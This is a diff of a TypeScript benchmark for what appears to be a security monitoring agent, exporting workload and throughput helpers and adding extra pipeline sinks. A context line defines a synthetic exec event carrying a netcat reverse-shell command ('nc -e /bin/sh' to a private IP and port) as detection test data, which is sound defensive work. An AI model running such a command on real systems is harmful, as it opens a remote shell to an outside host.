@@ -17,7 +17,7 @@ import { cgroup2Root, scanCgroups } from '../src/containers/cgroup.js';
 import { enrichHandler, startContainers, type Containers } from '../src/containers/index.js';
 import { countingSink } from '../src/pipeline/handlers.js';
 import { Pipeline } from '../src/pipeline/pipeline.js';
-import type { Handler } from '../src/pipeline/types.js';
+import type { Handler, Sink } from '../src/pipeline/types.js';
 import { loadRules, type RuleSet } from '../src/rules/index.js';
 import { Agent } from '../src/server/agent.js';
 import { defaultConfig } from '../src/server/config.js';
@@ -111,9 +111,9 @@ const ATTACK_ARGS = ['nc', '-e', '/bin/sh', '10.0.0.9', '4444'].join('\0');
 const ATTACK = { tracker: 'process', fields: { comm: 'nc', uid: 0, gid: 0, ppid: 1, type: 'exec', filename: '/dev/shm/nc', exe: '/dev/shm/nc', args: ATTACK_ARGS, args_size: ATTACK_ARGS.length + 1 } } as const;
 
 /** Records in memory, one buffer per tracker, and the order to push them in. */
-interface Workload { sources: Source[]; bufs: Buffer[]; which: Uint8Array; offsets: Uint32Array; containers: number; hosts: number }
+export interface Workload { sources: Source[]; bufs: Buffer[]; which: Uint8Array; offsets: Uint32Array; containers: number; hosts: number }
 
-function workload(containerCgroups: number[], hostCgroups: number[], n: number): Workload {
+export function workload(containerCgroups: number[], hostCgroups: number[], n: number): Workload {
   const sources = [processTracker, opensnoopTracker, tcpconnectTracker].map(source);
   const idx = { process: 0, opensnoop: 1, tcpconnect: 2 };
   const inCt = mix(true);
@@ -140,10 +140,10 @@ function workload(containerCgroups: number[], hostCgroups: number[], n: number):
   return { sources, bufs, which, offsets, containers: containerCgroups.length, hosts: hostCgroups.length };
 }
 
-/** Events/s for decode → handlers → counting sink, as the tracker's batch callback feeds the pipeline. */
-function throughput(handlers: Handler[], w: Workload, n: number): number {
+/** Events/s for decode → handlers → counting sink (and `extra` sinks), as the tracker's batch callback feeds the pipeline. */
+export function throughput(handlers: Handler[], w: Workload, n: number, extra: Sink[] = []): number {
   const sink = countingSink();
-  const p = new Pipeline({ handlers, sinks: [sink] });
+  const p = new Pipeline({ handlers, sinks: [sink, ...extra] });
   const total = w.which.length;
   const { sources, bufs, which, offsets } = w;
   const t0 = performance.now();
@@ -157,7 +157,7 @@ function throughput(handlers: Handler[], w: Workload, n: number): number {
   return n / secs;
 }
 
-function scanCgroupIds(): number[] {
+export function scanCgroupIds(): number[] {
   const root = cgroup2Root();
   return root ? [...scanCgroups(root).keys()] : [];
 }
